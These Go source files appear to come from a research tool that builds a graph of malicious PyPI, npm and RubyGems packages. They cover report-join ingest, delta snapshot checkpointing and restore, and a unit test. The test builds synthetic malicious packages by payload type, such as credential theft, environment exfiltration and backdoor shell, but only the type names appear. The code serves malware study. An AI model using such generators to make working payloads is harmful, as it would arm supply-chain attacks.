	return textsim.Item{}, false
}

// flattenClusters serialises a partition→clusters map into one deterministic
// per-ecosystem list, ordered by canonical partition key.
func flattenClusters(parts map[string][]textsim.Cluster) []textsim.Cluster {
	keys := make([]string, 0, len(parts))
	total := 0
	for k, cs := range parts {
		keys = append(keys, k)
		total += len(cs)
	}
	sort.Strings(keys)
	out := make([]textsim.Cluster, 0, total)
	for _, k := range keys {
		out = append(out, parts[k]...)
	}
	return out
}

// applyCoexisting merges new reports and maintains the §III-D report-join
// stage. Two exact strategies:
//
//   - Append path: when every new report's URL sorts after the whole
//     ingested corpus and no new package is named by an earlier report,
//     joining just the new reports reproduces the one-shot pass bit for bit
//     (the one-shot loop runs in URL order, and AddEdge keeps the first
//     writer's attrs — the URL-smallest report, which is unchanged). The
//     timeline feed delivers reports in URL-order slices, so steady-state
//     appends take this path and cost O(new reports).
//
//   - Rebuild path: otherwise the join is re-derived over the full merged
//     corpus — exactly the loop a one-shot Build runs.
func (e *Engine) applyCoexisting(newReports []*reports.Report, changes []entryChange, st *IngestStats) error {
	before := e.mg.G.EdgeCount(graph.Coexisting)
	var fresh []*reports.Report
	appendOnly := true
	for _, rep := range newReports {
		if rep == nil || e.reportSeen[rep.URL] {
			continue
		}
		if n := len(e.mg.Reports); n > 0 && rep.URL <= e.mg.Reports[n-1].URL {
			appendOnly = false
		}
		e.reportSeen[rep.URL] = true
		e.mg.Reports = append(e.mg.Reports, rep)
		for _, coord := range rep.Packages {
			e.wanted[coord.Key()] = true
		}
		fresh = append(fresh, rep)
	}
	st.NewReports = len(fresh)
	if len(fresh) > 0 { // the corpus stays URL-sorted between batches
		sort.Slice(e.mg.Reports, func(i, j int) bool { return e.mg.Reports[i].URL < e.mg.Reports[j].URL })
	}

	rebuild := false
	for _, ch := range changes {
		if ch.isNew && e.wanted[NodeID(ch.entry.Coord)] {
			rebuild = true
			break
		}
	}
	join := func(rep *reports.Report) error {
		var members []string
		for _, coord := range rep.Packages {
			id := NodeID(coord)
			if _, ok := e.mg.G.Node(id); !ok {
				continue // report names a package outside the dataset (so far)
			}
			members = append(members, id)
			e.mg.ReportsByPackage[id] = append(e.mg.ReportsByPackage[id], rep)
		}
		sort.Strings(members)
		members = uniqueStrings(members)
		if len(members) < 2 {
			return nil
		}
		attrs := graph.Attrs{"report": rep.URL}
		return e.mg.connectGroup(members, graph.Coexisting, attrs, e.cfg.PairwiseLimit)
	}
	switch {
	case rebuild || (len(fresh) > 0 && !appendOnly):
		// Out-of-order report delivery re-derives too, keeping first-writer
		// attrs and per-package report order identical to the one-shot pass.
		e.mg.G.RemoveEdgesWhere(graph.Coexisting, func(graph.Edge) bool { return true })
		e.mg.ReportsByPackage = make(map[string][]*reports.Report)
		for _, rep := range e.mg.Reports {
			if err := join(rep); err != nil {
				return err
			}
		}
		st.CoexistingRebuilt = true
	case len(fresh) > 0:
		sort.Slice(fresh, func(i, j int) bool { return fresh[i].URL < fresh[j].URL })
		for _, rep := range fresh {
			if err := join(rep); err != nil {
				return err
			}
		}
	}
	st.CoexistingDelta = e.mg.G.EdgeCount(graph.Coexisting) - before
	return nil
}

func artifactChanges(changes []entryChange) []entryChange {
	out := make([]entryChange, 0, len(changes))
	for _, ch := range changes {
		if ch.newArtifact {
			out = append(out, ch)
		}
	}
	return out
}

// insertItem inserts it into the ID-sorted slice, replacing an existing item
// with the same ID (defensive; artifacts are immutable once ingested).
func insertItem(items []textsim.Item, it textsim.Item) []textsim.Item {
	i := sort.Search(len(items), func(i int) bool { return items[i].ID >= it.ID })
	if i < len(items) && items[i].ID == it.ID {
		items[i] = it
		return items
	}
	items = append(items, textsim.Item{})
	copy(items[i+1:], items[i:])
	items[i] = it
	return items
}

func containsSource(ids []sources.ID, id sources.ID) bool {
	for _, x := range ids {
		if x == id {
			return true
		}
	}
	return false
}
