package core

// Snapshot v5: segmented delta checkpoints. A store-attached engine splits
// persistence into a small manifest (written to the caller's stream exactly
// like a monolithic snapshot, so the atomic-rename and WAL-truncation
// contracts upstream are untouched) and content-addressed chunks in a
// castore.Store. Each persisted section — dataset entries, graph, clustering
// items, import caches, partition caches, reports, pair ownership — is a
// log of chunks: a chunk either re-bases the section (full re-encode) or
// applies a delta of key sets/deletes recorded by the engine's dirty
// tracking. The manifest holds only the ordered chunk references plus the
// genuinely small inline state (config, posting lists, sequence stamps), so
// checkpoint cost is O(changes since the last checkpoint), not O(corpus).
//
// Durability ordering: the chunk segment is appended — and fsynced — before
// a single manifest byte is written, so a manifest that gets published by
// the caller's rename can always resolve its references; a crash in between
// leaves only unreferenced blobs, which compaction collects.

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"sort"
	"strconv"
	"strings"

	"malgraph/internal/castore"
	"malgraph/internal/collect"
	"malgraph/internal/ecosys"
	"malgraph/internal/graph"
	"malgraph/internal/reports"
	"malgraph/internal/textsim"
)

// snapshotVersionSegmented is the manifest format version.
const snapshotVersionSegmented = 5

// manifestSnapshot is the v5 wire format: inline small state plus, per
// section, the ordered chunk references that reconstruct it.
type manifestSnapshot struct {
	Version    int                  `json:"version"`
	Config     Config               `json:"config"`
	Header     collect.ResultHeader `json:"datasetHeader"`
	Posting    map[string][]string  `json:"posting"`
	AppliedSeq uint64               `json:"appliedSeq,omitempty"`
	FeedPos    int                  `json:"feedPos,omitempty"`
	Sections   map[string][]string  `json:"sections"`
}

// kvChunk is one delta of a keyed section: Set writes (or overwrites) keys,
// Del removes them. Chunks apply in manifest order; within one chunk the two
// maps are disjoint by construction.
type kvChunk struct {
	Set map[string]json.RawMessage `json:"set,omitempty"`
	Del []string                   `json:"del,omitempty"`
}

// graphChunk is one step of the graph log: either a full re-base (Reset
// carries graph.WriteJSON output) or the journaled operations since the
// previous chunk.
type graphChunk struct {
	Reset json.RawMessage `json:"reset,omitempty"`
	Ops   []graph.Op      `json:"ops,omitempty"`
}

// ecoKey joins an ecosystem name and an inner key for sections whose keys
// are only unique per ecosystem (items, partitions). NUL cannot appear in
// node IDs or partition keys.
func ecoKey(eco, inner string) string { return eco + "\x00" + inner }

func splitEcoKey(key string) (eco, inner string, ok bool) {
	i := strings.IndexByte(key, 0)
	if i < 0 {
		return "", "", false
	}
	return key[:i], key[i+1:], true
}

// pendingChunk is one chunk built but not yet durable; the in-memory
// section logs are only updated after the whole segment fsyncs and the
// manifest encodes, so a failed checkpoint leaves the dirty state intact
// for the next attempt.
type pendingChunk struct {
	section string
	key     string // "" for an empty re-base (clears the section's refs)
	keys    int
	rebase  bool
}

// snapshotSegmentedLocked writes a v5 checkpoint: delta chunks and new
// artifact blobs into the store, the manifest to w. Caller holds e.mu.
func (e *Engine) snapshotSegmentedLocked(w io.Writer) error {
	var blobs []castore.Blob
	var chunks []pendingChunk
	newArtRefs := make(map[string]artifactRef)

	addKV := func(section string, set map[string]json.RawMessage, del []string, rebase bool) error {
		if len(set) == 0 && len(del) == 0 {
			if rebase {
				// The section re-based to empty: the manifest must drop the
				// old refs even though there is no chunk to write.
				chunks = append(chunks, pendingChunk{section: section, rebase: true})
			}
			return nil
		}
		sort.Strings(del)
		data, err := json.Marshal(kvChunk{Set: set, Del: del})
		if err != nil {
			return fmt.Errorf("snapshot %s chunk: %w", section, err)
		}
		key := castore.KeyOf(data)
		blobs = append(blobs, castore.Blob{Key: key, Data: data})
		chunks = append(chunks, pendingChunk{section, key, len(set) + len(del), rebase})
		return nil
	}

	// Dataset: dirty coordinate keys re-encode their entries; artifacts go
	// to the store as standalone blobs referenced from the entry records.
	ds := e.mg.Dataset
	dsRebase := e.logs[sectionDataset].rebaseDue(len(ds.Entries))
	var dsKeys []string
	if dsRebase {
		dsKeys = make([]string, 0, len(ds.Entries))
		for _, en := range ds.Entries {
			dsKeys = append(dsKeys, en.Coord.Key())
		}
	} else {
		dsKeys = sortedKeySet(e.track.entries)
	}
	dsSet := make(map[string]json.RawMessage, len(dsKeys))
	for _, key := range dsKeys {
		en, ok := ds.EntryByKey(key)
		if !ok {
			return fmt.Errorf("snapshot: dirty entry %s not in dataset", key)
		}
		blobRef := ""
		if en.Artifact != nil {
			if ref, ok := e.artifactRefs[key]; ok && ref.art == en.Artifact {
				blobRef = ref.key
			} else {
				raw, err := json.Marshal(en.Artifact)
				if err != nil {
					return fmt.Errorf("snapshot artifact %s: %w", key, err)
				}
				blobRef = castore.KeyOf(raw)
				blobs = append(blobs, castore.Blob{Key: blobRef, Data: raw})
				newArtRefs[key] = artifactRef{art: en.Artifact, key: blobRef}
			}
		}
		rec, err := ds.EncodeEntry(en, blobRef)
		if err != nil {
			return fmt.Errorf("snapshot entry %s: %w", key, err)
		}
		dsSet[key] = rec
	}
	if err := addKV(sectionDataset, dsSet, nil, dsRebase); err != nil {
		return err
	}

	// Graph: journaled operations, or a full re-base when the log grew past
	// the live node+edge count.
	ops := e.mg.G.JournalOps()
	journalDrop := len(ops)
	liveGraph := e.mg.G.NodeCount() + e.mg.G.EdgeCount()
	if e.logs[sectionGraph].rebaseDue(liveGraph) {
		var buf bytes.Buffer
		if err := e.mg.G.WriteJSON(&buf); err != nil {
			return fmt.Errorf("snapshot graph: %w", err)
		}
		data, err := json.Marshal(graphChunk{Reset: buf.Bytes()})
		if err != nil {
			return fmt.Errorf("snapshot graph chunk: %w", err)
		}
		key := castore.KeyOf(data)
		blobs = append(blobs, castore.Blob{Key: key, Data: data})
		chunks = append(chunks, pendingChunk{sectionGraph, key, liveGraph, true})
	} else if len(ops) > 0 {
		data, err := json.Marshal(graphChunk{Ops: ops})
		if err != nil {
			return fmt.Errorf("snapshot graph chunk: %w", err)
		}
		key := castore.KeyOf(data)
		blobs = append(blobs, castore.Blob{Key: key, Data: data})
		chunks = append(chunks, pendingChunk{sectionGraph, key, len(ops), false})
	}

	// Per-shard sections. Shards iterate in sorted-ecosystem order so chunk
	// bytes are deterministic for a given state.
	ecos := make([]ecosys.Ecosystem, 0, len(e.shards))
	for eco := range e.shards {
		ecos = append(ecos, eco)
	}
	sort.Slice(ecos, func(i, j int) bool { return ecos[i] < ecos[j] })

	totalItems, totalImports, totalParts := 0, 0, 0
	for _, sh := range e.shards {
		totalItems += len(sh.items)
		totalImports += len(sh.importsOf)
		totalParts += len(sh.clustersByPart)
	}

	encodeItem := func(it textsim.Item) (json.RawMessage, error) {
		return json.Marshal(snapshotItem{
			ID:     it.ID,
			Vector: it.Vector,
			Hash:   strconv.FormatUint(it.Hash, 16),
		})
	}
	itRebase := e.logs[sectionItems].rebaseDue(totalItems)
	itSet := make(map[string]json.RawMessage)
	impRebase := e.logs[sectionImports].rebaseDue(totalImports)
	impSet := make(map[string]json.RawMessage)
	partRebase := e.logs[sectionPartitions].rebaseDue(totalParts)
	partSet := make(map[string]json.RawMessage)
	var partDel []string
	for _, eco := range ecos {
		sh := e.shards[eco]
		name := eco.String()
		items := sh.newItems
		if itRebase {
			items = sh.items
		}
		for _, it := range items {
			raw, err := encodeItem(it)
			if err != nil {
				return fmt.Errorf("snapshot item %s: %w", it.ID, err)
			}
			itSet[ecoKey(name, it.ID)] = raw
		}
		var fronts []string
		if impRebase {
			fronts = make([]string, 0, len(sh.importsOf))
			for front := range sh.importsOf {
				fronts = append(fronts, front)
			}
		} else {
			fronts = make([]string, 0, len(sh.dirtyImports))
			for front := range sh.dirtyImports {
				fronts = append(fronts, front)
			}
		}
		sort.Strings(fronts)
		for _, front := range fronts {
			raw, err := json.Marshal(sh.importsOf[front])
			if err != nil {
				return fmt.Errorf("snapshot imports %s: %w", front, err)
			}
			impSet[front] = raw
		}
		var partKeys []string
		if partRebase {
			partKeys = make([]string, 0, len(sh.clustersByPart))
			for key := range sh.clustersByPart {
				partKeys = append(partKeys, key)
			}
		} else {
			partKeys = make([]string, 0, len(sh.dirtyParts))
			for key := range sh.dirtyParts {
				partKeys = append(partKeys, key)
			}
			for key := range sh.delParts {
				partDel = append(partDel, ecoKey(name, key))
			}
		}
		sort.Strings(partKeys)
		for _, key := range partKeys {
			raw, err := json.Marshal(sh.clustersByPart[key])
			if err != nil {
				return fmt.Errorf("snapshot partition %s: %w", key, err)
			}
			partSet[ecoKey(name, key)] = raw
		}
	}
	if err := addKV(sectionItems, itSet, nil, itRebase); err != nil {
		return err
	}
	if err := addKV(sectionImports, impSet, nil, impRebase); err != nil {
		return err
	}
	if partRebase {
		partDel = nil
	}
	sort.Strings(partDel)
	if err := addKV(sectionPartitions, partSet, partDel, partRebase); err != nil {
		return err
	}

	// Reports: add-only by URL (the corpus keeps the first crawl).
	repRebase := e.logs[sectionReports].rebaseDue(len(e.mg.Reports))
	var repURLs []string
	if repRebase {
		repURLs = make([]string, 0, len(e.mg.Reports))
		for _, rep := range e.mg.Reports {
			repURLs = append(repURLs, rep.URL)
		}
	} else {
		repURLs = sortedKeySet(e.track.reports)
	}
	repSet := make(map[string]json.RawMessage, len(repURLs))
	for _, url := range repURLs {
		rep := e.reportByURL[url]
		if rep == nil {
			return fmt.Errorf("snapshot: dirty report %s not in corpus", url)
		}
		raw, err := json.Marshal(rep)
		if err != nil {
			return fmt.Errorf("snapshot report %s: %w", url, err)
		}
		repSet[url] = raw
	}
	if err := addKV(sectionReports, repSet, nil, repRebase); err != nil {
		return err
	}

	// Pair ownership: per-key sets and deletes, or a full re-base after the
	// co-existing fallback rebuilt the map wholesale.
	poRebase := e.track.pairsRebase || e.logs[sectionPairOwners].rebaseDue(len(e.coexOwner))
	poSet := make(map[string]json.RawMessage)
	var poDel []string
	if poRebase {
		for pk, url := range e.coexOwner {
			raw, err := json.Marshal(url)
			if err != nil {
				return fmt.Errorf("snapshot pair owner %s: %w", pk, err)
			}
			poSet[pk] = raw
		}
	} else {
		for pk := range e.track.pairs {
			url, ok := e.coexOwner[pk]
			if !ok {
				return fmt.Errorf("snapshot: dirty pair %s not in ownership map", pk)
			}
			raw, err := json.Marshal(url)
			if err != nil {
				return fmt.Errorf("snapshot pair owner %s: %w", pk, err)
			}
			poSet[pk] = raw
		}
		for pk := range e.track.delPairs {
			poDel = append(poDel, pk)
		}
	}
	sort.Strings(poDel)
	if err := addKV(sectionPairOwners, poSet, poDel, poRebase); err != nil {
		return err
	}

	// Make the chunks and blobs durable before a single manifest byte:
	// Append fsyncs the segment (and the directory) before returning.
	if _, err := e.store.Append(blobs); err != nil {
		return fmt.Errorf("snapshot: append segment: %w", err)
	}

	// Build the prospective section refs without touching the logs yet.
	man := manifestSnapshot{
		Version:    snapshotVersionSegmented,
		Config:     e.cfg,
		Header:     ds.EncodeHeader(),
		Posting:    e.posting,
		AppliedSeq: e.appliedSeq,
		FeedPos:    e.feedPos,
		Sections:   make(map[string][]string, len(sectionNames)),
	}
	for _, name := range sectionNames {
		man.Sections[name] = e.logs[name].refs
	}
	for _, pc := range chunks {
		if pc.rebase {
			if pc.key == "" {
				man.Sections[pc.section] = []string{}
			} else {
				man.Sections[pc.section] = []string{pc.key}
			}
			continue
		}
		cur := man.Sections[pc.section]
		man.Sections[pc.section] = append(cur[:len(cur):len(cur)], pc.key)
	}
	if err := json.NewEncoder(w).Encode(&man); err != nil {
		return fmt.Errorf("snapshot: manifest: %w", err)
	}

	// Commit: the segment is durable and the manifest encoded, so the logs
	// advance and the dirty state resets. (If the caller's rename fails the
	// previous manifest stays published; its refs are a subset of ours plus
	// chunks the next checkpoint will still reference — nothing is lost.)
	for _, pc := range chunks {
		lg := e.logs[pc.section]
		if pc.rebase {
			lg.refs = nil
			if pc.key != "" {
				lg.refs = []string{pc.key}
			}
			lg.logged = pc.keys
			lg.rebase = false
		} else {
			lg.refs = append(lg.refs, pc.key)
			lg.logged += pc.keys
		}
	}
	e.mg.G.DropJournalPrefix(journalDrop)
	e.track.reset()
	for _, sh := range e.shards {
		sh.newItems = nil
		sh.dirtyImports = nil
		sh.dirtyParts = nil
		sh.delParts = nil
	}
	for k, ref := range newArtRefs {
		e.artifactRefs[k] = ref
	}
	return nil
}

// sortedKeySet returns the map's keys sorted.
func sortedKeySet(m map[string]bool) []string {
	out := make([]string, 0, len(m))
	for k := range m {
		out = append(out, k)
	}
	sort.Strings(out)
	return out
}

// sortedRawKeys returns a replayed chunk-state's keys sorted, so restore
// loops that group entries into per-ecosystem containers visit them in a
// deterministic order.
func sortedRawKeys(m map[string]json.RawMessage) []string {
	out := make([]string, 0, len(m))
	for k := range m {
		out = append(out, k)
	}
	sort.Strings(out)
	return out
}

// RestoreEngineWithStore reconstructs an engine from a snapshot stream
// backed by a content store. A v5 manifest resolves its chunk references
// against st; a monolithic v3/v4 stream restores as before and then has the
// store attached, so the first checkpoint after an upgrade re-bases every
// section into the store. Either way the returned engine checkpoints
// segmentedly from then on.
func RestoreEngineWithStore(r io.Reader, st *castore.Store) (*Engine, error) {
	buf, err := io.ReadAll(r)
	if err != nil {
		return nil, fmt.Errorf("restore read: %w", err)
	}
	var probe struct {
		Version int `json:"version"`
	}
	if err := json.Unmarshal(buf, &probe); err != nil {
		return nil, fmt.Errorf("restore decode: %w", err)
	}
	if probe.Version < snapshotVersionSegmented {
		e, err := RestoreEngine(bytes.NewReader(buf))
		if err != nil {
			return nil, err
		}
		e.AttachStore(st)
		return e, nil
	}
	var man manifestSnapshot
	if err := json.Unmarshal(buf, &man); err != nil {
		return nil, fmt.Errorf("restore manifest decode: %w", err)
	}
	if man.Version != snapshotVersionSegmented {
		return nil, fmt.Errorf("restore: snapshot version %d, want %d..%d",
			man.Version, minSnapshotVersion, snapshotVersionSegmented)
	}

	var allRefs []string
	for _, name := range sectionNames {
		allRefs = append(allRefs, man.Sections[name]...)
	}
	chunkData, err := st.Fetch(allRefs)
	if err != nil {
		return nil, fmt.Errorf("restore: fetch chunks: %w", err)
	}
	logged := make(map[string]int, len(sectionNames))
	replayKV := func(section string) (map[string]json.RawMessage, error) {
		state := make(map[string]json.RawMessage)
		for _, ref := range man.Sections[section] {
			var ch kvChunk
			if err := json.Unmarshal(chunkData[ref], &ch); err != nil {
				return nil, fmt.Errorf("restore %s chunk %s: %w", section, ref, err)
			}
			for k, v := range ch.Set {
				state[k] = v
			}
			for _, k := range ch.Del {
				delete(state, k)
			}
			logged[section] += len(ch.Set) + len(ch.Del)
		}
		return state, nil
	}

	// Graph: replay the chunk log (a re-base resets, ops apply on top).
	g := graph.New()
	for _, ref := range man.Sections[sectionGraph] {
		var gc graphChunk
		if err := json.Unmarshal(chunkData[ref], &gc); err != nil {
			return nil, fmt.Errorf("restore graph chunk %s: %w", ref, err)
		}
		if len(gc.Reset) > 0 {
			g, err = graph.ReadJSON(bytes.NewReader(gc.Reset))
			if err != nil {
				return nil, fmt.Errorf("restore graph reset %s: %w", ref, err)
			}
			logged[sectionGraph] = g.NodeCount() + g.EdgeCount()
		}
		if len(gc.Ops) > 0 {
			if err := g.Apply(gc.Ops); err != nil {
				return nil, fmt.Errorf("restore graph ops %s: %w", ref, err)
			}
			logged[sectionGraph] += len(gc.Ops)
		}
	}

	// Dataset: replay entry records, then resolve and attach artifact blobs.
	entState, err := replayKV(sectionDataset)
	if err != nil {
		return nil, err
	}
	entKeys := make([]string, 0, len(entState))
	for k := range entState {
		entKeys = append(entKeys, k)
	}
	sort.Strings(entKeys)
	decoded := make([]collect.DecodedEntry, 0, len(entKeys))
	var wantArts []string
	for _, k := range entKeys {
		de, err := collect.DecodeEntry(entState[k])
		if err != nil {
			return nil, fmt.Errorf("restore entry %s: %w", k, err)
		}
		if de.BlobRef != "" && de.Entry.Artifact == nil {
			wantArts = append(wantArts, de.BlobRef)
		}
		decoded = append(decoded, de)
	}
	artData, err := st.Fetch(wantArts)
	if err != nil {
		return nil, fmt.Errorf("restore: fetch artifacts: %w", err)
	}
	for i := range decoded {
		ref := decoded[i].BlobRef
		if ref == "" || decoded[i].Entry.Artifact != nil {
			continue
		}
		var art ecosys.Artifact
		if err := json.Unmarshal(artData[ref], &art); err != nil {
			return nil, fmt.Errorf("restore artifact %s: %w", ref, err)
		}
		decoded[i].Entry.Artifact = &art
	}
	ds, err := collect.AssembleResult(man.Header, decoded)
	if err != nil {
		return nil, fmt.Errorf("restore dataset: %w", err)
	}

	// Reports, items, imports, partitions, pair ownership.
	repState, err := replayKV(sectionReports)
	if err != nil {
		return nil, err
	}
	reps := make([]*reports.Report, 0, len(repState))
	for _, raw := range repState {
		var rep reports.Report
		if err := json.Unmarshal(raw, &rep); err != nil {
			return nil, fmt.Errorf("restore report: %w", err)
		}
		reps = append(reps, &rep)
	}
	sort.Slice(reps, func(i, j int) bool { return reps[i].URL < reps[j].URL })

	itState, err := replayKV(sectionItems)
	if err != nil {
		return nil, err
	}
	items := make(map[string][]snapshotItem)
	for _, k := range sortedRawKeys(itState) {
		eco, _, ok := splitEcoKey(k)
		if !ok {
			return nil, fmt.Errorf("restore: malformed item key %q", k)
		}
		var it snapshotItem
		if err := json.Unmarshal(itState[k], &it); err != nil {
			return nil, fmt.Errorf("restore item %s: %w", k, err)
		}
		items[eco] = append(items[eco], it)
	}

	impState, err := replayKV(sectionImports)
	if err != nil {
		return nil, err
	}
	imports := make(map[string][]string, len(impState))
	for front, raw := range impState {
		var deps []string
		if err := json.Unmarshal(raw, &deps); err != nil {
			return nil, fmt.Errorf("restore imports %s: %w", front, err)
		}
		imports[front] = deps
	}

	partState, err := replayKV(sectionPartitions)
	if err != nil {
		return nil, err
	}
	partitions := make(map[string]map[string][]textsim.Cluster)
	for _, k := range sortedRawKeys(partState) {
		eco, inner, ok := splitEcoKey(k)
		if !ok {
			return nil, fmt.Errorf("restore: malformed partition key %q", k)
		}
		var cs []textsim.Cluster
		if err := json.Unmarshal(partState[k], &cs); err != nil {
			return nil, fmt.Errorf("restore partition %s: %w", k, err)
		}
		if partitions[eco] == nil {
			partitions[eco] = make(map[string][]textsim.Cluster)
		}
		partitions[eco][inner] = cs
	}

	poState, err := replayKV(sectionPairOwners)
	if err != nil {
		return nil, err
	}
	pairOwners := make(map[string]string, len(poState))
	for pk, raw := range poState {
		var url string
		if err := json.Unmarshal(raw, &url); err != nil {
			return nil, fmt.Errorf("restore pair owner %s: %w", pk, err)
		}
		pairOwners[pk] = url
	}

	e, err := restoreFromParts(ds, g, &engineSnapshot{
		Version:    snapshotVersion,
		Config:     man.Config,
		Reports:    reps,
		Partitions: partitions,
		Items:      items,
		Imports:    imports,
		Posting:    man.Posting,
		PairOwners: pairOwners,
		AppliedSeq: man.AppliedSeq,
		FeedPos:    man.FeedPos,
	})
	if err != nil {
		return nil, err
	}

	// Attach the store with the manifest's logs instead of a blank re-base:
	// the restored engine keeps appending deltas to the same chunk chains.
	e.mu.Lock()
	e.attachStoreLocked(st)
	for _, name := range sectionNames {
		lg := e.logs[name]
		lg.refs = append([]string(nil), man.Sections[name]...)
		lg.logged = logged[name]
		lg.rebase = false
	}
	for _, de := range decoded {
		if de.BlobRef != "" && de.Entry.Artifact != nil {
			e.artifactRefs[de.Entry.Coord.Key()] = artifactRef{art: de.Entry.Artifact, key: de.BlobRef}
		}
	}
	e.mu.Unlock()
	return e, nil
}

// CollectManifestRefs returns every blob a serialized snapshot references:
// the manifest's section chunks plus the artifact blobs its dataset chunks
// point at. Compaction unions this over every retained snapshot so archived
// manifests stay restorable. Monolithic (pre-v5) snapshots reference
// nothing. st resolves the dataset chunks (their entry records carry the
// artifact refs).
func CollectManifestRefs(r io.Reader, st *castore.Store) (map[string]bool, error) {
	buf, err := io.ReadAll(r)
	if err != nil {
		return nil, fmt.Errorf("manifest refs: %w", err)
	}
	var man manifestSnapshot
	if err := json.Unmarshal(buf, &man); err != nil {
		return nil, fmt.Errorf("manifest refs decode: %w", err)
	}
	live := make(map[string]bool)
	if man.Version != snapshotVersionSegmented {
		return live, nil
	}
	for _, name := range sectionNames {
		for _, ref := range man.Sections[name] {
			live[ref] = true
		}
	}
	dsData, err := st.Fetch(man.Sections[sectionDataset])
	if err != nil {
		return nil, fmt.Errorf("manifest refs: fetch dataset chunks: %w", err)
	}
	for _, ref := range man.Sections[sectionDataset] {
		var ch kvChunk
		if err := json.Unmarshal(dsData[ref], &ch); err != nil {
			return nil, fmt.Errorf("manifest refs: dataset chunk %s: %w", ref, err)
		}
		for k, raw := range ch.Set {
			de, err := collect.DecodeEntry(raw)
			if err != nil {
				return nil, fmt.Errorf("manifest refs: entry %s: %w", k, err)
			}
			if de.BlobRef != "" {
				live[de.BlobRef] = true
			}
		}
	}
	return live, nil
}
