package core

import (
	"testing"
	"time"

	"malgraph/internal/codegen"
	"malgraph/internal/collect"
	"malgraph/internal/ecosys"
	"malgraph/internal/graph"
	"malgraph/internal/reports"
	"malgraph/internal/sources"
	"malgraph/internal/xrand"
)

var t0 = time.Date(2023, 3, 1, 0, 0, 0, 0, time.UTC)

// miniDataset builds a hand-crafted dataset exercising all four edge types:
//   - camA: 3 packages from one code base (similar edges expected)
//   - camB: 2 packages from another code base
//   - dep: "pygrata" core + "loglib-modules" front importing it
//   - dup: one package reported by two sources
//   - loner: a singleton
func miniDataset(t *testing.T) (*collect.Result, []*reports.Report) {
	t.Helper()
	rng := xrand.New(42)
	var entries []*collect.Entry

	addEntry := func(a *ecosys.Artifact, srcs ...sources.ID) *collect.Entry {
		e := &collect.Entry{
			Coord:        a.Coord,
			Artifact:     a,
			Availability: collect.FromSource,
			Sources:      srcs,
			ReleasedAt:   t0,
			RemovedAt:    t0.AddDate(0, 0, 2),
		}
		entries = append(entries, e)
		return e
	}

	cbA := codegen.NewCodeBase("camA", ecosys.PyPI, codegen.PayloadBeaconC2, rng.Derive("a"))
	for i, name := range []string{"alpha-one", "alpha-two", "alpha-three"} {
		coord := ecosys.Coord{Ecosystem: ecosys.PyPI, Name: name, Version: "1.0.0"}
		addEntry(cbA.Instantiate(coord, codegen.Options{Description: "a"}), sources.Backstabber)
		_ = i
	}
	cbB := codegen.NewCodeBase("camB", ecosys.PyPI, codegen.PayloadWalletReplace, rng.Derive("b"))
	for _, name := range []string{"beta-one", "beta-two"} {
		coord := ecosys.Coord{Ecosystem: ecosys.PyPI, Name: name, Version: "2.0.0"}
		addEntry(cbB.Instantiate(coord, codegen.Options{Description: "b"}), sources.Maloss)
	}

	cbCore := codegen.NewCodeBase("dep-core", ecosys.PyPI, codegen.PayloadEnvExfil, rng.Derive("c"))
	coreCoord := ecosys.Coord{Ecosystem: ecosys.PyPI, Name: "pygrata", Version: "1.0.0"}
	addEntry(cbCore.Instantiate(coreCoord, codegen.Options{Description: "core"}), sources.Backstabber)

	cbFront := codegen.NewCodeBase("dep-front", ecosys.PyPI, codegen.PayloadDNSTunnel, rng.Derive("d"))
	frontCoord := ecosys.Coord{Ecosystem: ecosys.PyPI, Name: "loglib-modules", Version: "1.0.0"}
	addEntry(cbFront.Instantiate(frontCoord, codegen.Options{
		Description: "front", Dependencies: []string{"pygrata"}, ImportDeps: []string{"pygrata"},
	}), sources.Backstabber)

	cbDup := codegen.NewCodeBase("dup", ecosys.NPM, codegen.PayloadCredentialTheft, rng.Derive("e"))
	dupCoord := ecosys.Coord{Ecosystem: ecosys.NPM, Name: "acookie", Version: "1.0.0"}
	addEntry(cbDup.Instantiate(dupCoord, codegen.Options{Description: "dup"}),
		sources.Backstabber, sources.Maloss, sources.Tianwen)

	cbLoner := codegen.NewCodeBase("loner", ecosys.RubyGems, codegen.PayloadBackdoorShell, rng.Derive("f"))
	lonerCoord := ecosys.Coord{Ecosystem: ecosys.RubyGems, Name: "lonely", Version: "0.1.0"}
	addEntry(cbLoner.Instantiate(lonerCoord, codegen.Options{Description: "l"}), sources.Snyk)

	res := &collect.Result{PerSource: map[sources.ID]collect.SourceStats{}, CollectedAt: t0}
	for _, e := range entries {
		res.Entries = append(res.Entries, e)
	}

	reportCorpus := []*reports.Report{
		{
			URL: "https://vendor.example/r/1", Site: "vendor.example",
			Category: reports.CategoryCommercial, Title: "alpha campaign",
			Packages: []ecosys.Coord{
				{Ecosystem: ecosys.PyPI, Name: "alpha-one", Version: "1.0.0"},
				{Ecosystem: ecosys.PyPI, Name: "alpha-two", Version: "1.0.0"},
			},
			PublishedAt: t0.AddDate(0, 0, 3),
		},
		{
			URL: "https://vendor.example/r/2", Site: "vendor.example",
			Category: reports.CategoryCommercial, Title: "alpha campaign update",
			Packages: []ecosys.Coord{
				{Ecosystem: ecosys.PyPI, Name: "alpha-two", Version: "1.0.0"},
				{Ecosystem: ecosys.PyPI, Name: "alpha-three", Version: "1.0.0"},
				{Ecosystem: ecosys.PyPI, Name: "ghost-package", Version: "9.9.9"}, // not in dataset
			},
			PublishedAt: t0.AddDate(0, 0, 5),
		},
	}
	return res, reportCorpus
}

func build(t *testing.T) *MalGraph {
	t.Helper()
	ds, reps := miniDataset(t)
	mg, err := Build(ds, reps, DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	return mg
}

func TestBuildNodeCounts(t *testing.T) {
	mg := build(t)
	// 9 canonical packages + record nodes (3×1 + 2×1 + 1 + 1 + 3 + 1 = 11).
	if got := mg.G.NodeCount(); got != 9+11 {
		t.Fatalf("node count = %d", got)
	}
}

func TestDuplicatedEdges(t *testing.T) {
	mg := build(t)
	groups := mg.DuplicateGroups()
	if len(groups) != 1 {
		t.Fatalf("duplicate groups = %v", groups)
	}
	if len(groups[0]) != 3 { // acookie seen by 3 sources → 3 record nodes
		t.Fatalf("acookie group size = %d", len(groups[0]))
	}
	if got := mg.G.EdgeCount(graph.Duplicated); got != 3 { // C(3,2)
		t.Fatalf("duplicated edges = %d", got)
	}
}

func TestSimilarEdgesRecoverCampaigns(t *testing.T) {
	mg := build(t)
	subs := mg.PackageSubgraphs(graph.Similar, 2)
	if len(subs) != 2 {
		t.Fatalf("similar subgraphs = %d: %v", len(subs), subs)
	}
	if len(subs[0]) != 3 || len(subs[1]) != 2 {
